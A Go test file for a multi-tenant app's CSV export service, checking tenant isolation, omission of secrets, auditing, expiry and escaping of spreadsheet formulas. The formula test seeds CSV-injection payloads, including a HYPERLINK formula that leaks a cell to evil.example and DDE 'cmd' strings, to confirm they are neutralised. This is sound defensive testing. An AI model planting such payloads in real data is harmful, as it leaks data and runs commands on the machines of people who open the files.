package exports_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/uptrace/bun"

	"github.com/holdspace/holdspace/app/accounts"
	"github.com/holdspace/holdspace/app/apperr"
	"github.com/holdspace/holdspace/app/audit"
	"github.com/holdspace/holdspace/app/authz"
	"github.com/holdspace/holdspace/app/database"
	"github.com/holdspace/holdspace/app/database/dbtest"
	"github.com/holdspace/holdspace/app/exports"
	"github.com/holdspace/holdspace/app/jobs"
	"github.com/holdspace/holdspace/app/mail"
	"github.com/holdspace/holdspace/app/programs"
	"github.com/holdspace/holdspace/app/tenants"
)

type env struct {
	db  *bun.DB
	svc *exports.Service
	ten *tenants.Service
	acc *accounts.Service
	log *audit.Log
}

func newEnv(t *testing.T) *env {
	t.Helper()
	db := dbtest.Open(t)
	rdb, err := jobs.Connect(context.Background(), dbtest.Redis(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rdb.Close() })
	prefix := "test:" + dbtest.RandomHex(6) + ":"
	queue := jobs.NewNamedQueue(rdb, prefix+jobs.DefaultQueue)
	log := audit.New(db)
	mailer := mail.New(db, queue, nil, "x@y.z")
	acc := accounts.New(db, log, mailer, accounts.NewLimiter(rdb, prefix), "http://holdspace.test", slog.New(slog.DiscardHandler))
	ten := tenants.NewService(db, tenants.NewStore(db), acc, log, mailer, "http://holdspace.test")
	return &env{db: db, svc: exports.NewService(db, log, queue), ten: ten, acc: acc, log: log}
}

// seed makes a tenant with a record of every kind, each named with the tenant's word, and
// returns its admin's context.
func (e *env) seed(t *testing.T, word string) context.Context {
	t.Helper()
	bg := context.Background()
	tn := &tenants.Tenant{Slug: word + "-" + dbtest.RandomHex(3), Name: word + " tenant", Kind: tenants.KindStateSystem,
		State: "IL", Status: tenants.StatusTrial, Plan: "trial", TimeZone: "America/Chicago"}
	if err := e.ten.CreateTenant(bg, tn); err != nil {
		t.Fatal(err)
	}
	admin, err := e.acc.CreateUser(bg, "admin."+word+"@example.org", word+" Admin", "", false)
	if err != nil {
		t.Fatal(err)
	}
	ctx := database.WithScope(bg, database.Scope{TenantID: tn.ID, TenantSlug: tn.Slug, UserID: admin.ID, Role: authz.TenantAdmin})
	ctx = audit.WithActor(ctx, audit.Actor{ID: admin.ID, Email: admin.Email})
	if _, err := e.ten.AddMember(ctx, admin.ID, authz.TenantAdmin, ""); err != nil {
		t.Fatal(err)
	}
	funder := &tenants.Organisation{Kind: tenants.OrgFunder, Name: word + " Funder"}
	program := &tenants.Organisation{Kind: tenants.OrgProgram, Name: word + " Program", ProgramKind: "doula", County: "Cook",
		Languages: database.StringList{"English"}}
	for _, o := range []*tenants.Organisation{funder, program} {
		if err := e.ten.CreateOrganisation(ctx, o); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.ten.Invite(ctx, tenants.InviteInput{Email: "invitee." + word + "@example.org", Role: authz.Consultant}); err != nil {
		t.Fatal(err)
	}
	tx, _ := database.For(ctx, e.db)
	now := database.Now()
	site := &programs.Site{ID: database.NewID(), ProgramID: program.ID, Name: word + " Site", Kind: "site", CreatedAt: now}
	f := &programs.Funding{ID: database.NewID(), ProgramID: program.ID, FunderID: funder.ID, FiscalYear: 2026, IECMHCFunded: true,
		CreatedAt: now, UpdatedAt: now}
	line := &programs.BudgetLine{ID: database.NewID(), FundingID: f.ID, Category: word + " Category", AmountCents: 1250000}
	for _, m := range []database.TenantOwned{site, f, line} {
		if _, err := tx.Insert(m).Exec(ctx); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.db.NewRaw("INSERT INTO imports (tenant_id, id, kind, status, file_name, content, created_at, updated_at) VALUES (?, ?, 'people', 'done', ?, ?, ?, ?)",
		tn.ID, database.NewID(), word+".csv", "SECRET CONTENT "+word, now, now).Exec(ctx); err != nil {
		t.Fatal(err)
	}
	return ctx
}

// unzip returns each file of a zip by name, parsed as CSV.
func unzip(t *testing.T, b []byte) map[string][][]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][][]string{}
	for _, f := range zr.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(r)
		rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		out[f.Name] = rows
	}
	return out
}

func column(rows [][]string, name string) []string {
	var out []string
	for i, h := range rows[0] {
		if h == name {
			for _, r := range rows[1:] {
				out = append(out, r[i])
			}
		}
	}
	return out
}

func TestExport(t *testing.T) {
	e := newEnv(t)
	ctx := e.seed(t, "alpha")
	e.seed(t, "bravo") // another tenant: none of its rows may come out

	ex, created, err := e.svc.Request(ctx)
	if err != nil || !created || ex.Status != exports.StatusQueued {
		t.Fatalf("got %+v, %v, %v; want a queued export", ex, created, err)
	}
	t.Run("OneAtATime", func(t *testing.T) {
		again, created, err := e.svc.Request(ctx)
		if err != nil || created || again.ID != ex.ID {
			t.Fatalf("got %v, created %v (%v); want the export already queued", again.ID, created, err)
		}
	})
	t.Run("ErrNotReadyYet", func(t *testing.T) {
		if _, err := e.svc.Download(ctx, ex.ID); apperr.Code(err) != apperr.ENOTFOUND || !strings.Contains(apperr.Message(err), "not ready") {
			t.Fatalf("got %v", err)
		}
	})
	if err := e.svc.Build(ctx, ex.ID); err != nil {
		t.Fatal(err)
	}
	if err := e.svc.Build(ctx, ex.ID); err != nil { // delivered twice
		t.Fatal(err)
	}
	got, err := e.svc.Download(ctx, ex.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.Status != exports.StatusReady || got.SizeBytes != int64(len(got.Content)) || got.ExpiresAt == nil ||
		got.ExpiresAt.Sub(*got.FinishedAt) != exports.Lifetime {
		t.Fatalf("got %+v, want ready, with its size, expiring 7 days after it was built", got)
	}
	files := unzip(t, got.Content)

	t.Run("OneCSVPerKind", func(t *testing.T) {
		var names []string
		for n := range files {
			names = append(names, n)
		}
		sort.Strings(names)
		want := []string{"audit_events.csv", "budget_lines.csv", "fundings.csv", "imports.csv", "invitations.csv",
			"memberships.csv", "organisations.csv", "program_sites.csv"}
		if strings.Join(names, " ") != strings.Join(want, " ") {
			t.Fatalf("got %v, want %v", names, want)
		}
	})
	t.Run("OnlyThisTenant", func(t *testing.T) {
		for name, rows := range files {
			for _, r := range rows {
				if line := strings.Join(r, ","); strings.Contains(strings.ToLower(line), "bravo") {
					t.Errorf("%s has another tenant's row: %s", name, line)
				}
			}
		}
		checks := map[string]struct{ col, want string }{
			"organisations.csv": {"name", "alpha Funder"},
			"memberships.csv":   {"email", "admin.alpha@example.org"},
			"invitations.csv":   {"email", "invitee.alpha@example.org"},
			"program_sites.csv": {"name", "alpha Site"},
			"fundings.csv":      {"program_name", "alpha Program"},
			"budget_lines.csv":  {"category", "alpha Category"},
			"audit_events.csv":  {"action", "invitation.create"},
			"imports.csv":       {"file_name", "alpha.csv"},
		}
		for name, c := range checks {
			if vals := column(files[name], c.col); !strings.Contains(strings.Join(vals, "\n"), c.want) {
				t.Errorf("%s: column %s is %v, want it to hold %q", name, c.col, vals, c.want)
			}
		}
	})
	t.Run("Values", func(t *testing.T) {
		m := files["memberships.csv"]
		if column(m, "name")[0] != "alpha Admin" || column(m, "active")[0] != "true" {
			t.Errorf("memberships: %v", m)
		}
		f := files["fundings.csv"]
		if column(f, "iecmhc_funded")[0] != "true" || column(f, "fiscal_year")[0] != "2026" {
			t.Errorf("fundings: %v", f)
		}
		if _, err := time.Parse(time.RFC3339Nano, column(f, "created_at")[0]); err != nil {
			t.Errorf("fundings created_at: %v", err)
		}
		if column(files["budget_lines.csv"], "amount_cents")[0] != "1250000" {
			t.Errorf("budget lines: %v", files["budget_lines.csv"])
		}
	})
	t.Run("NoSecretsNorFiles", func(t *testing.T) {
		for _, h := range files["invitations.csv"][0] {
			if strings.Contains(h, "token") {
				t.Errorf("invitations.csv has column %s", h)
			}
		}
		for _, h := range files["imports.csv"][0] {
			if h == "content" {
				t.Error("imports.csv has the uploaded files")
			}
		}
		for name, rows := range files {
			for _, r := range rows {
				if strings.Contains(strings.Join(r, ","), "SECRET CONTENT") {
					t.Errorf("%s holds an uploaded file", name)
				}
			}
		}
	})
	t.Run("Audited", func(t *testing.T) {
		events, _, err := e.log.List(ctx, audit.Filter{Action: "export."})
		if err != nil {
			t.Fatal(err)
		}
		var actions []string
		for _, ev := range events {
			actions = append(actions, ev.Action)
		}
		sort.Strings(actions)
		if strings.Join(actions, " ") != "export.download export.ready export.request" {
			t.Fatalf("got %v, want one request, one ready (built twice), one download", actions)
		}
	})
	t.Run("OtherTenantCannotReachIt", func(t *testing.T) {
		other := e.seed(t, "charlie")
		if _, err := e.svc.Download(other, ex.ID); apperr.Code(err) != apperr.ENOTFOUND {
			t.Fatalf("got %v, want ENOTFOUND", err)
		}
		if err := e.svc.Build(other, ex.ID); err != nil {
			t.Fatal(err)
		}
		list, _ := e.svc.List(other, 10)
		if len(list) != 0 {
			t.Fatalf("tenant charlie lists %d exports", len(list))
		}
	})
	t.Run("Expiry", func(t *testing.T) {
		// Not yet: the sweep leaves it.
		if n, err := e.svc.Expire(context.Background(), database.Now()); err != nil || n != 0 {
			t.Fatalf("expired %d (%v), want 0", n, err)
		}
		// Past its expiry but not yet swept: already refused.
		if _, err := e.svc.Download(ctx, ex.ID); err != nil {
			t.Fatal(err)
		}
		later := got.ExpiresAt.Add(time.Minute)
		tx, _ := database.For(ctx, e.db)
		past := database.Now().Add(-time.Hour)
		if _, err := tx.Update((*exports.Export)(nil)).Set("expires_at = ?", past).Where("ex.id = ?", ex.ID).Exec(ctx); err != nil {
			t.Fatal(err)
		}
		_, err := e.svc.Download(ctx, ex.ID)
		if apperr.Code(err) != apperr.ENOTFOUND || !strings.Contains(apperr.Message(err), "This export expired on") {
			t.Fatalf("got %v, want ENOTFOUND saying it expired", err)
		}
		if n, err := e.svc.Expire(context.Background(), later); err != nil || n != 1 {
			t.Fatalf("expired %d (%v), want 1", n, err)
		}
		gone, err := e.svc.Get(ctx, ex.ID, true)
		if err != nil || gone.Status != exports.StatusExpired || gone.Content != nil {
			t.Fatalf("got %+v (%v), want expired with its file cleared", gone, err)
		}
		if _, err := e.svc.Download(ctx, ex.ID); apperr.Code(err) != apperr.ENOTFOUND || !strings.Contains(apperr.Message(err), "expired") {
			t.Fatalf("got %v", err)
		}
		// A new one can be requested.
		if _, created, err := e.svc.Request(ctx); err != nil || !created {
			t.Fatalf("got created %v (%v)", created, err)
		}
	})
}

// TestExportGuardsFormulas: text a person typed that a spreadsheet would run as a formula
// (an organisation named =HYPERLINK(…), an audit detail starting with @, a budget category
// starting with +) comes out with an apostrophe before it, in every file; numbers stay numbers.
func TestExportGuardsFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := e.seed(t, "delta")
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")`
	if err := e.ten.CreateOrganisation(ctx, &tenants.Organisation{Kind: tenants.OrgFunder, Name: evil, ShortName: "-2+3"}); err != nil {
		t.Fatal(err)
	}
	if err := e.log.Record(ctx, "note.add", "organisation", "x", "@SUM(1+1)*cmd|' /C calc'!A0"); err != nil {
		t.Fatal(err)
	}
	tx, _ := database.For(ctx, e.db)
	if _, err := tx.Update((*budgetLineTable)(nil)).Set("category = ?", "+cmd|' /C calc'!A0").Where("1 = 1").Exec(ctx); err != nil {
		t.Fatal(err)
	}
	ex, _, err := e.svc.Request(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.svc.Build(ctx, ex.ID); err != nil {
		t.Fatal(err)
	}
	got, err := e.svc.Download(ctx, ex.ID)
	if err != nil {
		t.Fatal(err)
	}
	files := unzip(t, got.Content)
	for name, rows := range files {
		for _, r := range rows[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
			}
		}
	}
	if !strings.Contains(strings.Join(column(files["organisations.csv"], "name"), "\n"), "'"+evil) {
		t.Errorf("organisations.csv names: %q", column(files["organisations.csv"], "name"))
	}
	if !strings.Contains(strings.Join(column(files["organisations.csv"], "short_name"), "\n"), "'-2+3") {
		t.Errorf("organisations.csv short names: %q", column(files["organisations.csv"], "short_name"))
	}
	if !strings.Contains(strings.Join(column(files["audit_events.csv"], "detail"), "\n"), "'@SUM(1+1)") {
		t.Errorf("audit_events.csv details: %q", column(files["audit_events.csv"], "detail"))
	}
	if c := column(files["budget_lines.csv"], "category"); len(c) == 0 || c[0] != "'+cmd|' /C calc'!A0" {
		t.Errorf("budget_lines.csv categories: %q", c)
	}
	if c := column(files["budget_lines.csv"], "amount_cents"); len(c) == 0 || c[0] != "1250000" {
		t.Errorf("budget_lines.csv amounts: %q", c)
	}
}

type budgetLineTable struct {
	bun.BaseModel `bun:"table:budget_lines,alias:bl"`
	database.TenantScoped
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}
